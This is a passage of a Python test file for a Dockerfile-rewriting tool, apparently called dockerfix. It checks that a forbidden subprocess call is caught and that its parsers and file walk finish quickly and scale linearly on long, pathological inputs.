    monkeypatch.setenv("DOCKERFIX_TEST_TREE", str(tmp_path / "tree"))
    setup = WATCHED + "\nimport subprocess\nsubprocess.run(['true'])\n"
    result = dockerfix("--diff", ".", cwd=tmp_path, setup=setup)
    assert result.returncode == 99 and "FORBIDDEN subprocess.Popen" in result.stderr


# --- bounded work -----------------------------------------------------------------------------------
# No catastrophic backtracking or quadratic scan on long lines: 100,000 characters of what each
# regular expression or lexer finds hardest.  5 s is generous (each takes well under a second);
# speed targets belong to the benchmark.

LONG = 100_000


def _long(unit: str, end: str = "") -> str:
    return (unit * (LONG // len(unit) + 1))[:LONG] + end


def _parse_shell(text: str) -> None:
    try:
        shell.parse(text)
    except shell.ShellSyntaxError:
        pass


def _parse_dockerfile(text: str) -> None:
    try:
        dockerfile.parse(text)
    except dockerfile.DockerfileSyntaxError:
        pass


ADVERSARIAL = {
    "parse_ref": (images.parse_ref, ["a-", "a.", "a__", "a_", "${", "${a:-", "$a", "1.", "a:", "a/", "sha256:a"], ["", "!", "-", "}", "@"]),
    "decide": (lambda s: images.decide(s, None, {}), ["${", "python:${a:-", "a-", "1.1-"], ["", "-alpine", "}"]),
    "decide with a long ARG": (lambda s: images.decide("python:${V}-alpine", None, {"V": s}), ["${", "${a:-", "1."], ["", "}"]),
    "shell lexer": (
        _parse_shell, ["'", '"', "`", "$(", "${", "$((", "\\\n", "a=", "x ", "&& ", "| ", "<<", "<<EOF ", "#", "[[ ", "{ ", "~"], ["", "'", '"', ")", "}"],
    ),
    "apk rule": (
        lambda s: apk_to_apt.translate_shell("apk add --no-cache " + s, "bookworm"),
        ["gcc ", "a>=", "=~", "a=1 ", "-t ", "--virtual ", "$x ", "py3-", "so:", "pc:", "cmd:", "&& apk add x "], ["", "'", '"'],
    ),
    "Dockerfile reader": (
        _parse_dockerfile,
        ["RUN <<", "<<EOF ", "\\\n", "RUN a \\\n", "# escape=`\n", "${a:-", "${", "--mount=", '["a", ', "'", '"', "$"],
        ["", "\n", "'"],
    ),
    "whole pipeline, FROM": (lambda s: fix_text("FROM python:" + s + "\nRUN apk add gcc\n"), ["${a:-", "${", "3.11-alpine"], ["", "}"]),
    "whole pipeline, ARG": (lambda s: fix_text("ARG V=" + s + "\nFROM python:${V}-alpine\n"), ["${", "${a:-", "a "], ["", "}"]),
    "whole pipeline, RUN": (lambda s: fix_text("FROM python:3.11-alpine\nRUN " + s + "\n"), ["apk add a>=", "apk ", "`", "x "], ["", "!"]),
}


@pytest.mark.parametrize("target", sorted(ADVERSARIAL))
def test_long_adversarial_lines_finish_fast(target: str) -> None:
    function, units, ends = ADVERSARIAL[target]
    for unit in units:
        for end in ends:
            started = time.perf_counter()
            try:
                function(_long(unit, end))
            except (ValueError, RecursionError):  # a clean refusal is fine; only time counts here
                pass
            elapsed = time.perf_counter() - started
            assert elapsed < 5, f"{target}: {unit!r} x {LONG // len(unit)} + {end!r} took {elapsed:.1f} s"


def test_hostile_gitignore_does_not_stall_the_walk(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, "a" * 100 + ".Dockerfile", ALPINE.encode())
    (repo / ".gitignore").write_text("*a*a*a*a*a*a*a*b\n")
    try:
        result = dockerfix("--diff", "repo", cwd=tmp_path, timeout=10)
    except subprocess.TimeoutExpired:
        pytest.fail("the walk did not finish within 10 s")
    assert result.returncode == 0, result.stderr


def _many_stages(n: int) -> str:
    block = "FROM python:3.11-alpine AS s{i}\nRUN apk add --no-cache gcc musl-dev && pip install x\n# note\nENV A=b\n"
    return "".join(block.format(i=i) for i in range(n))


def _many_apk_calls(n: int) -> str:
    return "FROM python:3.11-alpine\nRUN true \\\n" + "    && apk add --no-cache gcc \\\n" * n + "    && true\n"


@pytest.mark.parametrize("build, n", [(_many_stages, 8000), (_many_apk_calls, 15000)], ids=["many instructions", "many apk calls in one RUN"])
def test_work_grows_linearly(build, n: int) -> None:
    """A quadratic step (checking every edit against every other for overlaps) made these take
    one to two minutes; a linear pipeline needs a few seconds."""
    started = time.perf_counter()
    result = fix_text(build(n))
    assert result.error is None and result.changed
    assert time.perf_counter() - started < 30


def test_memory_grows_linearly() -> None:
    def peak(n: int) -> int:
        text = _many_stages(n)
        tracemalloc.start()
        try:
            fix_text(text)
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    small, large = peak(250), peak(1000)
    assert large < 6 * small, (small, large)  # four times the input: about four times the memory
